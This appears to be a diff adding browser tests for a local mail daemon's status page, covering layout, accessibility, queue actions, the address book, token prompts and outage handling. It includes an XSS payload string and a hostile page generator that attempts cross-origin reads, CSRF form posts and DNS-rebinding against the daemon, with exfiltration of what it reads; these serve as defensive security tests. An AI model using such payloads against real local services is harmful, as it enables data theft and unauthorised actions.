@@ -1,0 +1,425 @@
+/**
+ * The status page in a browser, as people use it.
+ */
+import { once } from 'node:events';
+import { connect, createServer } from 'node:net';
+import type { Page } from 'playwright-core';
+import t, { type Test } from 'tap';
+import { type DaemonProcess, startDaemon } from '../support/daemon.js';
+import { fakeRelay } from '../support/relay.js';
+import { serve } from '../support/serve.js';
+import {
+  barriersOf,
+  CHROMIUM,
+  isTooWide,
+  keepPicture,
+  LOOKS,
+  open,
+  openBrowser,
+  type Seen,
+} from './browser.js';
+import { freePorts, skipWithout, startFieldpost } from './peers.js';
+
+const options = { skip: skipWithout(CHROMIUM), timeout: 180_000 };
+const BOOK = 'offline_notification_destinations';
+/** Text that would do harm as markup. */
+const HARMFUL = '<img src=x onerror="document.title=1"><script>document.title=2</script>';
+
+const urlOf = ({ port }: DaemonProcess) => `http://127.0.0.1:${port}/`;
+
+/** A relay that refuses mails to `bad@…` for good, puts off those to `later@…`, and takes the rest. */
+async function startPicky(t: Test) {
+  const relay = await fakeRelay({
+    rcpt: ({ command }) =>
+      command.includes('bad@')
+        ? '550 5.1.1 No such user'
+        : command.includes('later@')
+          ? '450 4.2.1 Not now'
+          : undefined,
+  });
+  t.teardown(() => relay.close());
+  return relay;
+}
+
+/** A daemon with this relay, which tries again after a minute at the earliest. */
+async function startWith(t: Test, env: Readonly<Record<string, string>> = {}) {
+  const relay = await startPicky(t);
+  const pause = { FIELDPOST_BACKOFF_MIN: '60s', FIELDPOST_BACKOFF_MAX: '60s' };
+  return startFieldpost(t, { FIELDPOST_RELAY: relay.url, ...pause, ...env });
+}
+
+/** Nothing that must not be has been. */
+function assertQuiet(t: Test, { complaints, strays }: Seen): void {
+  t.strictSame(complaints, [], 'the console is empty');
+  t.strictSame(strays, [], 'no request leaves the origin');
+}
+
+const section = (page: Page, name: string) => page.getByRole('region', { name, exact: true });
+const messageOf = (page: Page, words: string | RegExp) =>
+  section(page, 'Messages').getByRole('listitem').filter({ hasText: words });
+
+t.test('every part is seen, at each width, dark and light, and nothing bars the way', options, async (t) => {
+  const daemon = await startWith(t);
+  await daemon.post(
+    { destination: 'john@example.com', subject: HARMFUL, plain: 'x' },
+    { destination: 'later@example.com', subject: 'Later', plain: 'x' },
+    { destination: 'bad@example.com', subject: 'Bad', plain: 'x' },
+  );
+  await daemon.api(BOOK, {
+    type: 1,
+    destination: 'ann@example.com',
+    lang: 'nl',
+    name: HARMFUL,
+  });
+  await daemon.said(/ failed id=/);
+  const browser = await openBrowser(t);
+  for (const look of LOOKS) {
+    const seen = await open(browser, urlOf(daemon), look);
+    const { page } = seen;
+    await page.getByText(/^1 waiting/i).waitFor();
+    for (const name of [
+      'Link and relay',
+      'Queue',
+      'Messages',
+      'Address book',
+      'Storage and clock',
+      'Test mail',
+    ]) {
+      t.equal(await section(page, name).count(), 1, name);
+    }
+    await messageOf(page, 'Later').getByText('deferred').click();
+    await messageOf(page, 'Later').getByText('450 4.2.1 Not now').waitFor();
+    await messageOf(page, HARMFUL).waitFor();
+    await section(page, 'Address book').getByText(HARMFUL).first().waitFor();
+    t.strictSame(await barriersOf(page), []);
+    t.notOk(await isTooWide(page), `${look.width} px`);
+    await keepPicture(page, 'status', look);
+    await section(page, 'Address book').getByRole('button', { name: 'Add somebody' }).click();
+    t.strictSame(await barriersOf(page), []);
+    await keepPicture(page, 'status-add', look);
+    t.match(await page.title(), /^! Fieldpost: 1 waiting/);
+    assertQuiet(t, seen);
+    await seen.context.close();
+  }
+});
+
+t.test('messages: filter, retry, cancel, hold, release, send all', options, async (t) => {
+  const daemon = await startWith(t);
+  await daemon.post(
+    { destination: 'john@example.com', subject: 'Fine', plain: 'x' },
+    { destination: 'later@example.com', subject: 'Later', plain: 'x' },
+    { destination: 'bad@example.com', subject: 'Bad', plain: 'x' },
+  );
+  await daemon.said(/ failed id=/);
+  const seen = await open(await openBrowser(t), urlOf(daemon));
+  const { page } = seen;
+  page.on('dialog', (dialog) => void dialog.accept());
+  const messages = section(page, 'Messages');
+  await messages.getByLabel('Status').selectOption('failed');
+  await messageOf(page, 'Bad').waitFor();
+  await messageOf(page, 'Fine').waitFor({ state: 'detached' });
+  await messages.getByLabel('Status').selectOption('');
+
+  const later = messageOf(page, 'Later');
+  // A person without a mouse: the summary opens by Enter, and keeps the focus when the message changes.
+  await later.locator('summary').focus();
+  await page.keyboard.press('Enter');
+  await later.getByText('1 attempt', { exact: true }).waitFor();
+  await later.getByRole('button', { name: 'Retry now' }).click();
+  await later.getByText('2 attempts').waitFor();
+  t.equal(await page.evaluate('document.activeElement.textContent'), 'Retry now', 'the focus stays');
+  await later.getByRole('button', { name: 'Cancel it' }).click();
+  await later.getByText('cancelled', { exact: true }).waitFor();
+  await messageOf(page, 'Bad').locator('summary').click();
+  await messageOf(page, 'Bad').getByRole('button', { name: 'Delete its content' }).click();
+  await page.getByText(/^The content of \S+ is deleted\.$/).waitFor();
+
+  await page.getByRole('button', { name: 'Hold delivery' }).click();
+  await page
+    .getByText(/nothing waits, and delivery is on hold/i)
+    .first()
+    .waitFor();
+  await daemon.post({ destination: 'john@example.com', subject: 'Held', plain: 'x' });
+  await messageOf(page, 'Held').getByText('queued').waitFor();
+  await page.getByRole('button', { name: 'Release delivery' }).click();
+  await messageOf(page, 'Held').getByText('sent', { exact: true }).waitFor();
+  await daemon.post({ destination: 'later@example.com', subject: 'Again', plain: 'x' });
+  await messageOf(page, 'Again').getByText('deferred').waitFor();
+  await page.getByRole('button', { name: 'Send all now' }).click();
+  await messageOf(page, 'Again').locator('summary').click();
+  await messageOf(page, 'Again').getByText('2 attempts').waitFor();
+  assertQuiet(t, seen);
+});
+
+t.test('messages: older ones are on further pages', options, async (t) => {
+  const daemon = await startWith(t);
+  const mails = Array.from({ length: 45 }, (_, index) => ({
+    destination: 'a@example.com',
+    subject: `Mail ${index}.`,
+    plain: 'x',
+  }));
+  await daemon.post(...mails);
+  const { page } = await open(await openBrowser(t), urlOf(daemon));
+  await messageOf(page, 'Mail 44.').waitFor();
+  await page.getByRole('button', { name: 'Older' }).click();
+  await messageOf(page, 'Mail 24.').waitFor();
+  await page.getByRole('button', { name: 'Older' }).click();
+  await messageOf(page, 'Mail 0.').waitFor();
+  t.equal(await page.getByRole('button', { name: 'Older' }).count(), 0);
+  await page.getByRole('button', { name: 'Newest' }).click();
+  await messageOf(page, 'Mail 44.').waitFor();
+});
+
+t.test('address book: the words of the daemon stand at each field', options, async (t) => {
+  const daemon = await startWith(t);
+  const seen = await open(await openBrowser(t), urlOf(daemon));
+  const { page, complaints } = seen;
+  page.on('dialog', (dialog) => void dialog.accept());
+  const book = section(page, 'Address book');
+  await book.getByText('Nobody yet.').waitFor();
+  await book.getByRole('button', { name: 'Add somebody' }).click();
+  const dialog = page.getByRole('dialog');
+  await dialog.getByLabel('Name').fill('Ann');
+  await dialog.getByLabel('Address or number').fill('not an address');
+  await dialog.getByRole('button', { name: 'Save' }).click();
+  const field = dialog.getByLabel('Address or number');
+  await page.waitForFunction('document.activeElement.getAttribute("aria-invalid") === "true"');
+  const described = await field.getAttribute('aria-describedby');
+  t.match(await page.locator(`#${described}`).textContent(), /email address/);
+  t.strictSame(await barriersOf(page), []);
+  // The browser tells of the 422 itself.
+  t.match(complaints.splice(0), [/422/]);
+  await field.fill('ann@example.com');
+  await page.keyboard.press('Enter');
+  await book.getByText('Ann: ann@example.com').waitFor();
+  await book.getByRole('button', { name: 'Add somebody' }).click();
+  await dialog.getByLabel('Name').fill('Another');
+  await dialog.getByLabel('Address or number').fill('ann@example.com');
+  await dialog.getByRole('button', { name: 'Save' }).click();
+  await dialog.getByRole('alert').filter({ hasText: /1/ }).waitFor();
+  t.match(complaints.splice(0), [/409/]);
+  await page.keyboard.press('Escape');
+  await dialog.waitFor({ state: 'hidden' });
+
+  await book.getByRole('button', { name: 'Change Ann' }).click();
+  await dialog.getByLabel('How to tell').selectOption('SMS');
+  await dialog.getByLabel('Address or number').fill('+32470123456');
+  // Somebody else is faster.
+  await daemon.api(
+    `${BOOK}/1`,
+    {
+      type: 1,
+      destination: 'ann@example.org',
+      lang: 'nl',
+      name: 'Ann',
+    },
+    'PUT',
+  );
+  await dialog.getByRole('button', { name: 'Save' }).click();
+  await dialog
+    .getByRole('alert')
+    .filter({ hasText: /changed/ })
+    .waitFor();
+  t.match(complaints.splice(0), [/412/]);
+  await dialog.getByRole('button', { name: 'Cancel' }).click();
+  await book.getByText('Ann: ann@example.org').waitFor();
+  await book.getByRole('button', { name: 'Change Ann' }).click();
+  await dialog.getByLabel('Language').selectOption('pl');
+  await dialog.getByRole('button', { name: 'Save' }).click();
+  await book.getByText('Email, pl').waitFor();
+  await book.getByRole('button', { name: 'Remove Ann' }).click();
+  await book.getByText('Nobody yet.').waitFor();
+  assertQuiet(t, seen);
+});
+
+t.test('a test mail is followed to its end', options, async (t) => {
+  const daemon = await startWith(t);
+  const seen = await open(await openBrowser(t), urlOf(daemon));
+  const { page } = seen;
+  const trial = section(page, 'Test mail');
+  for (const [to, words] of [
+    ['john@example.com', /: sent/],
+    ['bad@example.com', /: failed: 550 5\.1\.1 No such user/],
+  ] as const) {
+    await trial.getByLabel('Send a test mail to').fill(to);
+    await trial.getByRole('button', { name: 'Send' }).click();
+    await trial.getByText(words).waitFor();
+    await trial.getByText(/accepted as/).waitFor();
+  }
+  assertQuiet(t, seen);
+});
+
+t.test('with a token: asked at once, kept in memory only', options, async (t) => {
+  const token = 'a-token-that-nobody-guesses';
+  const daemon = await startWith(t, { FIELDPOST_API_TOKEN: token });
+  const seen = await open(await openBrowser(t), urlOf(daemon));
+  const { page, context, complaints } = seen;
+  const dialog = page.getByRole('dialog', { name: 'This daemon asks for a token' });
+  await dialog.waitFor();
+  assertQuiet(t, seen);
+  t.strictSame(await barriersOf(page), []);
+  await page.keyboard.press('Escape');
+  t.ok(await dialog.isVisible(), 'without a token there is nothing to see');
+  await dialog.getByLabel('Token').fill('another');
+  await dialog.getByRole('button').click();
+  await dialog.getByText('This token is not the right one.').waitFor();
+  t.match(complaints.splice(0), [/401/]);
+  await dialog.getByLabel('Token').fill(token);
+  await page.keyboard.press('Enter');
+  await page.getByText(/all is well/i).waitFor();
+  await page.getByRole('button', { name: 'Hold delivery' }).click();
+  await page.getByText('Delivery is on hold, also after a restart.').waitFor();
+  const kept = 'JSON.stringify([localStorage, sessionStorage, document.cookie, location.href])';
+  t.notMatch(await page.evaluate(kept), token);
+  t.strictSame(await context.cookies(), []);
+  await page.reload();
+  await dialog.waitFor();
+  assertQuiet(t, seen);
+});
+
+t.test('through a tunnel: another port and the name localhost', options, async (t) => {
+  const daemon = await startWith(t);
+  const tunnel = createServer((near) => {
+    const far = connect(daemon.port, '127.0.0.1');
+    for (const end of [near, far]) end.on('error', () => [near, far].map((one) => one.destroy()));
+    near.pipe(far).pipe(near);
+  }).listen(0, '127.0.0.1');
+  await once(tunnel, 'listening');
+  t.teardown(() => tunnel.close());
+  const { port } = tunnel.address() as { port: number };
+  const seen = await open(await openBrowser(t), `http://localhost:${port}/`);
+  await seen.page.getByText(/all is well/i).waitFor();
+  await seen.page.getByRole('button', { name: 'Hold delivery' }).click();
+  await seen.page.getByText('Delivery is on hold, also after a restart.').waitFor();
+  assertQuiet(t, seen);
+});
+
+t.test('the daemon is gone, and comes back', options, async (t) => {
+  const [port = 0] = await freePorts(1);
+  const relay = await startPicky(t);
+  const env = {
+    FIELDPOST_STATE_DIR: t.testdir(),
+    FIELDPOST_RELAY: relay.url,
+    FIELDPOST_LISTEN: `127.0.0.1:${port}`,
+  };
+  const first = await startDaemon(env);
+  t.teardown(() => first.end('SIGKILL'));
+  const { page, strays } = await open(await openBrowser(t), urlOf(first));
+  await page.getByText(/all is well/i).waitFor();
+  await first.end('SIGKILL');
+  const alert = page.getByRole('alert').filter({ hasText: /^the daemon does not answer, since \d\d:\d\d/ });
+  await alert.waitFor();
+  await page.getByRole('button', { name: 'Hold delivery' }).click();
+  await page.getByText('the daemon does not answer: nothing is done.').waitFor();
+  const second = await startDaemon(env);
+  t.teardown(() => second.end('SIGTERM'));
+  await alert.waitFor({ state: 'hidden' });
+  await page.getByRole('button', { name: 'Hold delivery' }).click();
+  await page.getByText('Delivery is on hold, also after a restart.').waitFor();
+  t.strictSame(strays, []);
+});
+
+t.test('a page that nobody sees asks nothing', options, async (t) => {
+  const daemon = await startWith(t);
+  const { page } = await open(await openBrowser(t), 'about:blank');
+  await page.clock.install();
+  let asked = 0;
+  page.on('request', (request) => {
+    if (request.url().endsWith('/state')) asked++;
+  });
+  await page.goto(urlOf(daemon));
+  await page.getByText(/all is well/i).waitFor();
+  const turn = (hidden: boolean) =>
+    page.evaluate(
+      `Object.defineProperty(document, 'hidden', { value: ${hidden}, configurable: true });
+       document.dispatchEvent(new Event('visibilitychange'))`,
+    );
+  await turn(true);
+  const before = asked;
+  await page.clock.runFor(60_000);
+  t.equal(asked, before);
+  const answered = page.waitForResponse(/\/state$/);
+  await turn(false);
+  await answered;
+  t.equal(asked, before + 1, 'it asks at once when somebody looks');
+});
+
+t.test('the timeline tells each state by the arrow keys', options, async (t) => {
+  const daemon = await startDaemon({ FIELDPOST_STATE_DIR: t.testdir() }, ['dev']);
+  t.teardown(() => daemon.end('SIGTERM'));
+  const seen = await open(await openBrowser(t), urlOf(daemon));
+  const bars = seen.page.getByRole('group', { name: /States of the cloud link/ }).getByRole('img');
+  await bars.nth(1).focus();
+  await seen.page.getByText(/^online since .*, so far/).waitFor();
+  await seen.page.keyboard.press('ArrowLeft');
+  await seen.page.getByText(/^connecting since .*, \d+ s/).waitFor();
+  assertQuiet(t, seen);
+});
+
+t.test('a page from elsewhere gets nowhere', options, async (t) => {
+  const daemon = await startWith(t);
+  const target = urlOf(daemon).slice(0, -1);
+  // A name that the attacker's DNS would turn to this device.
+  const rebound = target.replace('127.0.0.1', 'rebound.localhost');
+  const got: string[] = [];
+  await using site = await serve((req, res) => {
+    if (req.method === 'POST') got.push(String(req.url));
+    res.setHeader('Content-Type', 'text/html').end(hostile([target, rebound]));
+  });
+  const { page } = await open(await openBrowser(t), `${site.url}/`);
+  await page.getByText('tried all', { exact: true }).waitFor();
+  t.strictSame(got, [], 'it has read nothing');
+  for (const frame of page.frames().slice(1)) {
+    t.notMatch(await frame.content(), /Link and relay/, 'the status page is in no frame');
+  }
+  const opened = page.context().pages().slice(1);
+  for (const one of opened) t.notMatch(await one.content(), /tried all/);
+  const { json } = await daemon.api('messages');
+  t.strictSame(json, { messages: [], next: null }, 'no message is queued');
+  t.equal((await daemon.state()).queue.held, false);
+  // The same browser, on the page itself: all is well.
+  const own = await open(page.context().browser() as never, urlOf(daemon));
+  await own.page.getByText(/all is well/i).waitFor();
+});
+
+/** A page that tries to read and to change the daemons at these addresses. It posts what it gets to its own site. */
+function hostile(targets: readonly string[]): string {
+  return `<!doctype html><title>x</title><script type="module">
+    const took = (what) => fetch('/took', { method: 'POST', body: what });
+    const mail = JSON.stringify([{ type: 1, destination: 'john@example.com', subject: 'From elsewhere', plain: 'x' }]);
+    for (const target of ${JSON.stringify(targets)}) {
+      for (const [path, init] of [
+        ['/', {}], ['/api/internal/state', {}], ['/api/internal/messages', {}],
+        ['/api/internal/messages', { method: 'POST', headers: { 'Content-Type': 'application/json' }, body: mail }],
+        ['/api/internal/queue/hold', { method: 'POST' }],
+      ]) {
+        await fetch(target + path, init).then((answer) => answer.text()).then(took, () => {});
+        await fetch(target + path, { ...init, headers: {}, mode: 'no-cors' }).then((answer) => answer.text()).then((text) => text && took(text), () => {});
+      }
+      for (const [enctype, name, value] of [['text/plain', mail, ''], ['multipart/form-data', 'destination', 'john@example.com']]) {
+        const frame = document.createElement('iframe');
+        frame.name = 'f' + Math.random();
+        document.body.append(frame);
+        const form = document.body.appendChild(document.createElement('form'));
+        Object.assign(form, { method: 'post', enctype, target: frame.name, action: target + '/api/internal/messages' });
+        const input = form.appendChild(document.createElement('input'));
+        Object.assign(input, { name, value });
+        const done = new Promise((resolve) => frame.addEventListener('load', resolve));
+        form.submit();
+        await done;
+      }
+      const frame = document.createElement('iframe');
+      const loaded = new Promise((resolve) => frame.addEventListener('load', resolve));
+      frame.src = target + '/';
+      document.body.append(frame);
+      await loaded;
+      try { if (frame.contentDocument.body.textContent) took(frame.contentDocument.body.textContent); } catch {}
+      await new Promise((resolve) => {
+        const script = document.body.appendChild(document.createElement('script'));
+        script.onload = script.onerror = resolve;
+        script.src = target + '/api/internal/state';
+      });
+    }
+    document.body.append(Object.assign(document.createElement('p'), { textContent: 'tried all' }));
+  </script>`;
+}
